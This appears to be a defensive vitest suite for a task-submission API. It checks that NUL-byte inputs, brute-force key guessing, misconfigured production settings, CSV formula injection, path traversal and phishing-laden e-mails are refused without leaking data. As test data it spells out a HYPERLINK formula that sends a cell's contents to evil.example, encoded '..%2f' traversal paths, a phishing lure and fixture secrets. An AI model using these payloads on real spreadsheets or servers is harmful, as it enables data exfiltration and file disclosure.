/**
 * Issue 13 (items 4-8, 10): one row per attack, each asserting the refusal and that nothing
 * changed (no row written, nothing logged that carries the attacker's values). Runs on the real
 * database of the suite (PostgreSQL with TEST_DATABASE_URL, else PGlite) and, for static files,
 * on the real local host over HTTP.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { and, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { GET as analyticsGet } from "../../api/analytics.js";
import { POST as apiKeysPost } from "../../api/api-keys.js";
import { POST as clientAccountPost } from "../../api/client-account.js";
import { POST as clientAuthPost } from "../../api/client-auth.js";
import { GET as checkPaymentsGet } from "../../api/cron/check-payments.js";
import { GET as estimateGet, OPTIONS as estimateOptions, POST as estimatePost } from "../../api/estimate.js";
import { POST as mcpPost } from "../../api/mcp.js";
import { GET as notFoundGet } from "../../api/not-found.js";
import { GET as statusGet, POST as submitPost } from "../../api/submit-task.js";
import { GET as failuresGet } from "../../api/webhooks/[webhook_id]/failures.js";
import { POST as webhooksPost } from "../../api/webhooks.js";
import { neutralizeFormula } from "../../lib/analytics/exports.js";
import { resetConfig } from "../../lib/config.js";
import { getDb } from "../../lib/db/client.js";
import { emails } from "../../lib/db/schema/index.js";
import { processOutbox } from "../../lib/events/process-outbox.js";
import { toErrorResponse } from "../../lib/http/handler.js";
import { rateLimitSubject, resetLimiters } from "../../lib/ratelimit/limiter.js";
import { startLocalHost } from "../../scripts/local-host.js";
import { useTestDatabase } from "../helpers/db.js";
import { keyHeaders, makeKey } from "../helpers/keys.js";
import { call, expectEnvelope } from "../helpers/request.js";
import { submitTask, validTask } from "../helpers/tasks.js";
import { startUpstashShim, type UpstashShim } from "../helpers/upstash-shim.js";
import { verifyAddresses } from "../helpers/verified.js";

useTestDatabase();

const SECRET_ADDRESS = "742 Evergreen Terrace";

let admin: string;
let key: string;

beforeAll(async () => {
  admin = await makeKey(["admin"], "ops@example.com");
  key = await makeKey(["audit_only", "task_create"], "client@example.com");
});

/** Rows of the tables an attack could write to. */
async function counts(): Promise<Record<string, number>> {
  const db = await getDb();
  const out: Record<string, number> = {};
  for (const table of [
    "tasks",
    "task_events",
    "client_accounts",
    "emails",
    "api_keys",
    "webhooks",
    "job_runs",
  ]) {
    const rows = await db.execute(sql.raw(`select count(*)::int as n from ${table}`));
    const list = (Array.isArray(rows) ? rows : (rows as { rows: unknown[] }).rows) as { n: number }[];
    out[table] = Number(list[0]!.n);
  }
  return out;
}

/** Everything written to console.error / console.warn / console.log while `fn` runs. */
async function captureLogs(fn: () => Promise<void>): Promise<string> {
  const lines: string[] = [];
  const spies = (["error", "warn", "log"] as const).map((m) =>
    vi.spyOn(console, m).mockImplementation((...args: unknown[]) => {
      lines.push(args.map((a) => (a instanceof Error ? `${a.message}\n${a.stack}` : String(a))).join(" "));
    }),
  );
  try {
    await fn();
  } finally {
    for (const s of spies) s.mockRestore();
  }
  return lines.join("\n");
}

function mcpCall(name: string, args: Record<string, unknown>, headers: Record<string, string> = {}) {
  return call(mcpPost, "/api/mcp", {
    method: "POST",
    headers: { accept: "application/json, text/event-stream", host: "localhost:3000", ...headers },
    json: { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name, arguments: args } },
  });
}

interface Attack {
  name: string;
  /** Settings of the row (restored after it); limiters are reset with them. */
  env?: Record<string, string | undefined>;
  /** Legitimate traffic before the attack (not part of "nothing changed"). */
  setup?: () => Promise<void>;
  /** Runs the attack; asserts the refusal. */
  run: () => Promise<void>;
  /** Words the server's log must hold after the run (what a caller is not told). */
  logged?: string[];
}

/**
 * The limiters' clock while a row's settings apply: fixed, 10 s into a day (UTC), an hour and a
 * minute, so a row spends its small budget inside one window whatever the time it runs at, and
 * Retry-After is exact.
 */
const LIMITER_NOW = Date.UTC(2026, 0, 5, 0, 0, 10);

/**
 * Sets `values` in process.env, with fresh limiters on the fixed clock `LIMITER_NOW`; returns a
 * function that restores the previous values (and fresh limiters on the real clock).
 */
function withEnv(values: Record<string, string | undefined>): () => void {
  const saved = Object.fromEntries(Object.keys(values).map((k) => [k, process.env[k]]));
  const apply = (v: Record<string, string | undefined>, clock?: () => number) => {
    for (const [k, x] of Object.entries(v)) {
      if (x === undefined) delete process.env[k];
      else process.env[k] = x;
    }
    resetConfig();
    resetLimiters(clock);
  };
  apply(values, () => LIMITER_NOW);
  return () => apply(saved);
}

const fromIp = (ip: string, extra: Record<string, string> = {}) => ({ "x-local-socket-ip": ip, ...extra });

function createKeyFrom(ip: string) {
  return call(apiKeysPost, "/api/api-keys", {
    method: "POST",
    headers: fromIp(ip),
    json: { name: "agent", contact: "ipv6@example.com" },
  });
}

const NUL = "\u0000";

const nulAttacks: Attack[] = [
  {
    name: "item 7: task_id=%00 on GET /api/submit-task",
    run: async () => {
      const { res, body } = await call(statusGet, "/api/submit-task?task_id=%00");
      expect(expectEnvelope(body, res, 400, "INVALID_FORMAT").field).toBe("task_id");
    },
  },
  {
    name: "item 7: a NUL in an undeclared query parameter",
    run: async () => {
      const { res, body } = await call(statusGet, "/api/submit-task?task_id=TASK-1&extra=a%00b");
      expect(expectEnvelope(body, res, 400, "INVALID_FORMAT").field).toBe("extra");
    },
  },
  {
    name: "item 7: contact_name with U+0000 on web registration",
    run: async () => {
      const { res, body } = await call(clientAccountPost, "/api/client-account", {
        method: "POST",
        json: {
          contact_name: `Marie${NUL}Tremblay`,
          email: "nul@example.com",
          password: "correct horse battery",
          phone: "+1 450 555-0100",
          address_line1: SECRET_ADDRESS,
          city: "Terrebonne",
          postal_code: "j6w1a1",
          tos_accepted: true,
          cf_turnstile_token: "pass",
        },
      });
      expect(expectEnvelope(body, res, 400, "INVALID_FORMAT").field).toBe("contact_name");
    },
  },
  {
    name: "item 7: U+0000 deep in a submit-task body (and in a field name)",
    run: async () => {
      const nested = await submitTask({ ...validTask, location_address: `${SECRET_ADDRESS}${NUL}` });
      expect(expectEnvelope(nested.body, nested.res, 400, "INVALID_FORMAT").field).toBe("location_address");
      const named = await submitTask({ ...validTask, [`x${NUL}`]: 1 } as Record<string, unknown>);
      expect(expectEnvelope(named.body, named.res, 400, "INVALID_FORMAT").field).toBe("x\\u0000");
    },
  },
  {
    name: "item 7: a NUL in a path parameter",
    run: async () => {
      const { res, body } = await call(failuresGet, "/api/webhooks/wh_%00/failures", {
        headers: keyHeaders(key),
      });
      expect(expectEnvelope(body, res, 400, "INVALID_FORMAT").field).toBe("webhook_id");
    },
  },
  {
    name: "item 7: a NUL in MCP tool arguments",
    run: async () => {
      const { res, body } = await mcpCall("submit_task", { ...validTask, task_description: `hi${NUL}` });
      expect(res.status).toBe(200);
      expect(body.result.isError).toBe(true);
      expect(body.result._meta.error).toMatchObject({
        code: "INVALID_FORMAT",
        field: "task_description",
      });
    },
  },
];

const limitAttacks: Attack[] = [
  {
    name: "item 8 (issue 25): real submissions without a key are limited per IPv6 /64 per day",
    env: { ANON_SUBMISSIONS_PER_IP_PER_DAY: "2" },
    setup: async () => {
      const submit = (ip: string, headers: Record<string, string> = {}) =>
        call(submitPost, "/api/submit-task", {
          method: "POST",
          headers: fromIp(ip, headers),
          json: validTask,
        });
      for (const ip of ["2001:db8:7:1::1", "2001:db8:7:1::2"])
        expect((await submit(ip)).res.status).toBe(201);
      // Sandbox and keyed submissions are not counted; another /64 has its own budget.
      expect((await submit("2001:db8:7:1::3", { "x-service-mode": "sandbox" })).res.status).toBe(201);
      expect((await submit("2001:db8:7:1::4", keyHeaders(key))).res.status).toBe(201);
      expect((await submit("2001:db8:7:2::1")).res.status).toBe(201);
    },
    run: async () => {
      const refused = await call(submitPost, "/api/submit-task", {
        method: "POST",
        headers: fromIp("2001:db8:7:1::ffff"),
        json: validTask,
      });
      const error = expectEnvelope(refused.body, refused.res, 429, "RATE_LIMITED");
      expect(error.message).toMatch(/2 real task submissions without an API key per IP per day/);
      expect(refused.res.headers.get("retry-after")).toBe("86390"); // to the end of that day
    },
  },
  {
    name: "item 8: unknown API keys count against the IP's anonymous budget",
    env: { RATE_LIMIT_ANON_PER_MIN: "3" },
    run: async () => {
      const ip = "198.51.100.77";
      for (let i = 0; i < 3; i++) {
        const { res, body } = await call(estimateGet, "/api/estimate?hours=1", {
          headers: fromIp(ip, { "x-api-key": `svc_${"x".repeat(39)}${i}` }),
        });
        expectEnvelope(body, res, 401, "UNAUTHORIZED");
        expect(res.headers.get("ratelimit-remaining")).toBe(String(2 - i));
      }
      const guess = await call(estimateGet, "/api/estimate?hours=1", {
        headers: fromIp(ip, { "x-api-key": `svc_${"y".repeat(40)}` }),
      });
      expectEnvelope(guess.body, guess.res, 429, "RATE_LIMITED");
      const anonymous = await call(estimateGet, "/api/estimate?hours=1", { headers: fromIp(ip) });
      expectEnvelope(anonymous.body, anonymous.res, 429, "RATE_LIMITED");
    },
  },
  {
    name: "item 8: unknown keys in MCP tool arguments count against the IP's anonymous budget",
    env: { RATE_LIMIT_ANON_PER_MIN: "4" },
    run: async () => {
      const ip = "198.51.100.78";
      // One HTTP request carrying two tool calls with guessed keys (a batch counts each message).
      const { res, body } = await call(mcpPost, "/api/mcp", {
        method: "POST",
        headers: { accept: "application/json, text/event-stream", host: "localhost:3000", ...fromIp(ip) },
        json: [1, 2].map((id) => ({
          jsonrpc: "2.0",
          id,
          method: "tools/call",
          params: {
            name: "check_balance",
            arguments: { agent_id: "agent", api_key: `svc_${"z".repeat(39)}${id}` },
          },
        })),
      });
      expect(res.status).toBe(200);
      const codes = (body as any[]).map((r) => r.result._meta.error.code);
      expect(codes).toEqual(["UNAUTHORIZED", "UNAUTHORIZED"]);
      // 2 messages + 2 failed keys = 4 of 4: the next request is refused.
      const refused = await call(estimateGet, "/api/estimate?hours=1", { headers: fromIp(ip) });
      expectEnvelope(refused.body, refused.res, 429, "RATE_LIMITED");
    },
  },
  {
    name: "item 8: key creations are limited per IPv6 /64, not per address",
    env: { KEY_CREATIONS_PER_IP_PER_HOUR: "2" },
    setup: async () => {
      expect((await createKeyFrom("2001:db8:1:2::1")).res.status).toBe(201);
      expect((await createKeyFrom("2001:db8:1:2::2")).res.status).toBe(201);
    },
    run: async () => {
      const third = await createKeyFrom("2001:db8:1:2:ffff:ffff:ffff:fffe");
      expectEnvelope(third.body, third.res, 429, "RATE_LIMITED");
      const mapped = await createKeyFrom("::ffff:203.0.113.5");
      expect(mapped.res.status).toBe(201); // another subscriber: its own budget
      await createKeyFrom("203.0.113.5");
      const sameV4 = await createKeyFrom("203.0.113.5");
      expectEnvelope(sameV4.body, sameV4.res, 429, "RATE_LIMITED"); // ::ffff:a.b.c.d is a.b.c.d
    },
  },
  {
    name: "item 8: logins are limited per IPv6 /64",
    env: { LOGIN_ATTEMPTS_PER_IP_PER_HOUR: "2" },
    run: async () => {
      const statuses: number[] = [];
      for (const suffix of ["1", "2", "3"]) {
        const { res } = await call(clientAuthPost, "/api/client-auth", {
          method: "POST",
          headers: fromIp(`2001:db8:9:9::${suffix}`),
          json: { email: "nobody@example.com", password: "wrong password here" },
        });
        statuses.push(res.status);
      }
      expect(statuses).toEqual([401, 401, 429]);
    },
  },
  {
    name: "item 8: verify-email attempts are limited per IPv6 /64 (issue 25)",
    env: { EMAIL_CODE_ATTEMPTS_PER_IP_PER_HOUR: "2" },
    run: async () => {
      const statuses: number[] = [];
      for (const suffix of ["1", "2", "3"]) {
        const { res } = await call(clientAuthPost, "/api/client-auth?action=verify-email", {
          method: "POST",
          headers: fromIp(`2001:db8:7:7::${suffix}`),
          json: { token: `vfy_${suffix.repeat(40)}` },
        });
        statuses.push(res.status);
      }
      expect(statuses).toEqual([401, 401, 429]);
    },
  },
  {
    name: "item 8: reset requests are limited per IPv6 /64 (issue 25)",
    env: { EMAIL_CODE_ATTEMPTS_PER_IP_PER_HOUR: "2" },
    run: async () => {
      const statuses: number[] = [];
      for (const suffix of ["1", "2", "3"]) {
        const { res } = await call(clientAuthPost, "/api/client-auth?action=reset-request", {
          method: "POST",
          headers: fromIp(`2001:db8:8:8:${suffix}::1`),
          json: { email: `nobody-${suffix}@example.com` },
        });
        statuses.push(res.status);
      }
      expect(statuses).toEqual([200, 200, 429]);
    },
  },
];

const REMOTE_DB = "postgres://app:db-password@db.example.com:5432/app";

/**
 * The shared store the production profile requires wherever it runs (issue 47 item 4): the
 * Upstash REST shim in front of the local Redis, for the rows of a fully configured profile.
 */
let shim: UpstashShim | undefined;
beforeAll(async () => {
  shim = await startUpstashShim();
});
afterAll(async () => {
  await shim?.close();
});

/** The settings of a fully configured production profile, its Upstash variables naming the shim. */
function fullProduction(extra: Record<string, string> = {}): Record<string, string> {
  return {
    ...FULL_PRODUCTION,
    UPSTASH_REDIS_REST_URL: shim!.url,
    UPSTASH_REDIS_REST_TOKEN: shim!.token,
    ...extra,
  };
}

const FULL_PRODUCTION = {
  DATABASE_URL: REMOTE_DB,
  RESEND_API_KEY: "re_test_key",
  JWT_SECRET: "j".repeat(40),
  WEBHOOK_SECRET_KEY: Buffer.alloc(32, 7).toString("base64"),
  CRON_SECRET: "cron-secret-for-tests",
  TURNSTILE_SECRET_KEY: "turnstile-secret",
  RECEIPT_SIGNING_KEY:
    '{"crv":"Ed25519","d":"ZZL_xZ2ib6Yfxx0suKVHd_dbk1lfxR064j7V_zVp7WY","x":"ZrkjtQv68voP88G3RFdNTIicgPZDaeS3gtYEgbXz6ZY","kty":"OKP"}',
};

/**
 * Asserts a 503 CONFIGURATION_ERROR that tells the caller the code and the request id only
 * (issue 25 item 9): none of `names` (the variables at fault, in the log instead), no host.
 */
function expectRefusal(body: any, res: Response, names: string[]): void {
  const error = expectEnvelope(body, res, 503, "CONFIGURATION_ERROR");
  const text = JSON.stringify(body);
  for (const name of names) expect(text).not.toContain(name);
  expect(error.missing).toBeUndefined();
  expect(error.refused).toBeUndefined();
  expect(error.message).toContain(body.request_id);
  expect(res.headers.get("retry-after")).toBe("60");
  expect(text).not.toContain("db-password");
  expect(text).not.toContain("db.example");
}

const profileAttacks: Attack[] = [
  {
    name: "item 4: on Vercel without secrets, every function answers 503, the log names every variable",
    env: { VERCEL: "1" },
    logged: [
      "JWT_SECRET",
      "WEBHOOK_SECRET_KEY",
      "CRON_SECRET",
      "TURNSTILE_SECRET_KEY",
      "RECEIPT_SIGNING_KEY",
      "UPSTASH_REDIS_REST_URL",
      "UPSTASH_REDIS_REST_TOKEN",
      "RESEND_API_KEY",
    ],
    run: async () => {
      const all = [
        "JWT_SECRET",
        "WEBHOOK_SECRET_KEY",
        "CRON_SECRET",
        "TURNSTILE_SECRET_KEY",
        "RECEIPT_SIGNING_KEY",
        "UPSTASH_REDIS_REST_URL",
        "UPSTASH_REDIS_REST_TOKEN",
      ];
      const cron = await call(checkPaymentsGet, "/api/cron/check-payments");
      expectRefusal(cron.body, cron.res, all);
      const submitted = await call(submitPost, "/api/submit-task", { method: "POST", json: validTask });
      expectRefusal(submitted.body, submitted.res, all);
      const estimate = await call(estimateGet, "/api/estimate?hours=1");
      expectRefusal(estimate.body, estimate.res, all);
      const wrongMethod = await call(estimatePost, "/api/estimate", { method: "POST" });
      expectRefusal(wrongMethod.body, wrongMethod.res, all);
      const preflight = await call(estimateOptions, "/api/estimate", { method: "OPTIONS" });
      expectRefusal(preflight.body, preflight.res, all);
      const missing = await call(notFoundGet, "/api/nothing-here");
      expectRefusal(missing.body, missing.res, all);
    },
  },
  {
    name: "item 4: a non-loopback DATABASE_URL without CRON_SECRET: the cron does not run for anyone",
    env: { DATABASE_URL: REMOTE_DB },
    // The shared store too, off Vercel as well (issue 47 item 4).
    logged: [
      "JWT_SECRET",
      "WEBHOOK_SECRET_KEY",
      "CRON_SECRET",
      "TURNSTILE_SECRET_KEY",
      "RECEIPT_SIGNING_KEY",
      "UPSTASH_REDIS_REST_URL",
      "UPSTASH_REDIS_REST_TOKEN",
    ],
    run: async () => {
      const cron = await call(checkPaymentsGet, "/api/cron/check-payments");
      expectRefusal(cron.body, cron.res, [
        "JWT_SECRET",
        "WEBHOOK_SECRET_KEY",
        "CRON_SECRET",
        "TURNSTILE_SECRET_KEY",
        "RECEIPT_SIGNING_KEY",
      ]);
    },
  },
  {
    name: "item 4: NODE_ENV=production without secrets: no anonymous submission is stored",
    env: { NODE_ENV: "production" },
    logged: ["JWT_SECRET", "CRON_SECRET"],
    run: async () => {
      const submitted = await call(submitPost, "/api/submit-task", { method: "POST", json: validTask });
      expectRefusal(submitted.body, submitted.res, ["JWT_SECRET", "CRON_SECRET"]);
    },
  },
  {
    name: "item 4: a fully configured production profile serves, and its cron needs the bearer secret",
    get env() {
      return fullProduction();
    },
    run: async () => {
      expect((await call(estimateGet, "/api/estimate?hours=1")).res.status).toBe(200);
      const cron = await call(checkPaymentsGet, "/api/cron/check-payments");
      expectEnvelope(cron.body, cron.res, 401, "UNAUTHORIZED");
    },
  },
  {
    name: "item 4: ALLOW_PRIVATE_CALLBACKS is refused in the production profile",
    get env() {
      return fullProduction({ ALLOW_PRIVATE_CALLBACKS: "true" });
    },
    logged: ["ALLOW_PRIVATE_CALLBACKS"],
    run: async () => {
      const registered = await call(webhooksPost, "/api/webhooks", {
        method: "POST",
        headers: keyHeaders(key),
        json: { url: "http://127.0.0.1:9/hook", events: ["task.created"] },
      });
      expectRefusal(registered.body, registered.res, ["ALLOW_PRIVATE_CALLBACKS"]);
    },
  },
];

describe("attacks are refused and change nothing", () => {
  it.each([...profileAttacks, ...nulAttacks, ...limitAttacks].map((a) => [a.name, a] as const))(
    "%s",
    async (_name, attack) => {
      const restore = attack.env ? withEnv(attack.env) : () => {};
      try {
        await attack.setup?.();
        const before = await counts();
        const logs = await captureLogs(attack.run);
        const after = await counts();
        if (attack.name.includes("IPv6 /64, not per address")) {
          // The row's own control requests (other subscribers) create two keys.
          after.api_keys! -= 2;
        }
        expect(after).toEqual(before);
        for (const word of attack.logged ?? []) expect(logs).toContain(word);
        expect(logs).not.toContain(SECRET_ADDRESS);
        expect(logs).not.toMatch(/unhandled error|params:/);
      } finally {
        restore();
      }
    },
  );
});

describe("item 8: the per-IP rate-limit subject", () => {
  it.each([
    ["203.0.113.9", "203.0.113.9"],
    ["2001:db8:1:2:3:4:5:6", "2001:db8:1:2::/64"],
    ["2001:0db8:0001:0002::ffff", "2001:db8:1:2::/64"],
    ["::ffff:203.0.113.9", "203.0.113.9"],
    ["fe80::1%eth0", "fe80::/64"],
    ["unknown", "unknown"],
  ])("%s counts as %s", (ip, subject) => {
    expect(rateLimitSubject(ip)).toBe(subject);
  });
});

describe("item 7: error logs carry codes, never parameter values", () => {
  it("a failed query is logged with its SQLSTATE and SQL, without its parameters", async () => {
    const db = await getDb();
    const hash = "$2b$10$abcdefghijklmnopqrstuuSECRETHASHVALUEabcdefghijklmnop";
    const error = await db.execute(sql`select ${hash}::int as n`).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeDefined();
    let response: Response | undefined;
    const logs = await captureLogs(async () => {
      response = toErrorResponse(error, "req_test");
    });
    expect(response!.status).toBe(500);
    expect(logs).toContain("req_test");
    expect(logs).toContain("22P02"); // invalid_text_representation
    expect(logs).toContain("select $1::int");
    expect(logs).not.toContain("SECRETHASHVALUE");
  });
});

describe("item 5: CSV exports neutralize formulas (OWASP CSV injection)", () => {
  it.each([['=HYPERLINK("http://evil.example/?"&A1,"click")'], ["+1+1"], ["-2+3"], ["@SUM(A1:A2)"]])(
    "a task description %j is written with a leading quote",
    async (description) => {
      const org = `org-${Math.random().toString(36).slice(2, 8)}`;
      const created = await submitTask(
        { ...validTask, task_description: `${description} please inspect the storefront` },
        keyHeaders(key, { "x-agent-identity": `=1+1/bot/${org}` }),
      );
      expect(created.res.status).toBe(201);
      const { res, body } = await call(
        analyticsGet,
        `/api/analytics?action=export&org_id=${org}&format=csv&dataset=tasks`,
        { headers: keyHeaders(admin) },
      );
      expect(res.status).toBe(200);
      const text = body as string;
      expect(text).toContain(`'${description.replaceAll('"', '""')}`);
      expect(text).toContain(`'=1+1/bot/${org}`);
      // No cell (start of line or after a separator, quoted or not) begins with a formula character.
      expect(text).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    },
  );
});

describe("item 5: the CSV cell rule", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@x", "'@x"],
    ["\tx", "'\tx"],
    ["\rx", "'\rx"],
    ["plain", "plain"],
    ["a=b", "a=b"],
  ])("%j → %j", (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });
});

describe("item 10: static files stay inside public/", () => {
  let root: string;
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it.each([["/..%2fpublicsecret%2fx.txt"], ["/..%2fpublic-old%2fx.txt"], ["/%2e%2e/publicsecret/x.txt"]])(
    "%s is not served from a sibling folder",
    async (attackPath) => {
      root ??= mkdtempSync(path.join(os.tmpdir(), "ptes-static-"));
      mkdirSync(path.join(root, "api"), { recursive: true });
      mkdirSync(path.join(root, "public"), { recursive: true });
      for (const sibling of ["publicsecret", "public-old"]) {
        mkdirSync(path.join(root, sibling), { recursive: true });
        writeFileSync(path.join(root, sibling, "x.txt"), "secret");
      }
      writeFileSync(path.join(root, "public", "ok.txt"), "public");
      writeFileSync(path.join(root, "vercel.json"), "{}");
      const host = await startLocalHost({ root, port: 0, host: "127.0.0.1", crons: false, log: () => {} });
      try {
        expect(await (await fetch(`${host.url}/ok.txt`)).text()).toBe("public");
        const res = await fetch(`${host.url}${attackPath}`);
        expect(res.status).toBe(404);
        expect(await res.text()).not.toBe("secret");
      } finally {
        await host.close();
      }
    },
  );
});

describe("item 6: e-mails to unverified addresses carry no requester-written text", () => {
  const PHISH = "Your bank account is locked: confirm your password at http://evil.example/login";
  const PLACE = "1000 Rue Sherbrooke O, Montréal, QC H3A 3G4";

  async function mailTo(address: string) {
    await processOutbox();
    const db = await getDb();
    return db.select().from(emails).where(eq(emails.toAddress, address)).orderBy(emails.createdAt);
  }

  it.each([
    [
      "en",
      "victim-en@example.org",
      /^Task TASK-[\w-]+: received$/,
      "Details:",
      'is now "received" (received).',
    ],
    [
      "fr",
      "victim-fr@example.org",
      /^Tâche TASK-[\w-]+ : reçue$/,
      "Détails :",
      "est maintenant « reçue » (received).",
    ],
  ] as const)(
    "an anonymous submission in %s e-mails the stranger only the id, status and link",
    async (lang, victim, subject, details, status) => {
      const { res, body } = await submitTask({
        ...validTask,
        lang,
        requester_contact: victim,
        task_description: PHISH,
        special_instructions: "Call +1 555 0100 now",
      });
      expect(res.status).toBe(201);
      const [mail, ...rest] = await mailTo(victim);
      expect(rest).toEqual([]);
      expect(mail).toMatchObject({ template: "task-notice", lang, taskId: body.task_id, attachments: null });
      expect(mail!.subject).toMatch(subject);
      expect(mail!.textBody).toContain(body.task_id);
      expect(mail!.textBody).toContain(status);
      expect(mail!.textBody).toContain(
        `${details} http://localhost:3000/api/submit-task?task_id=${body.task_id}`,
      );
      for (const text of ["bank account", "evil.example", "555 0100", PLACE, "Sherbrooke"]) {
        expect(mail!.subject + mail!.textBody).not.toContain(text);
      }
    },
  );

  it("a verified address gets the full message (control)", async () => {
    const owner = "verified-owner@example.org";
    await verifyAddresses(owner);
    await submitTask({
      ...validTask,
      requester_contact: owner,
      task_description: "Photograph the storefront sign.",
    });
    const [mail] = await mailTo(owner);
    expect(mail).toMatchObject({ template: "task-received" });
    expect(mail!.textBody).toContain("Photograph the storefront sign.");
  });

  it("at most UNVERIFIED_EMAILS_PER_ADDRESS_PER_DAY go to one address; the rest are recorded as suppressed", async () => {
    const restore = withEnv({ UNVERIFIED_EMAILS_PER_ADDRESS_PER_DAY: "3" });
    try {
      const victim = "Flooded@Example.org";
      for (let i = 0; i < 5; i++) {
        expect(
          (await submitTask({ ...validTask, requester_contact: victim, task_description: PHISH })).res.status,
        ).toBe(201);
        await processOutbox(); // one dispatch per submission, as in production
      }
      const rows = await mailTo(victim.toLowerCase());
      expect(rows.map((r) => r.status)).toEqual(["sent", "sent", "sent", "suppressed", "suppressed"]);
      expect(rows.filter((r) => r.provider !== null)).toHaveLength(3);
      expect(rows[4]!.error).toMatch(/UNVERIFIED_EMAILS_PER_ADDRESS_PER_DAY/);
      const db = await getDb();
      const leaked = await db
        .select()
        .from(emails)
        .where(and(eq(emails.toAddress, victim.toLowerCase()), eq(emails.template, "task-received")));
      expect(leaked).toEqual([]);
    } finally {
      restore();
    }
  });
});
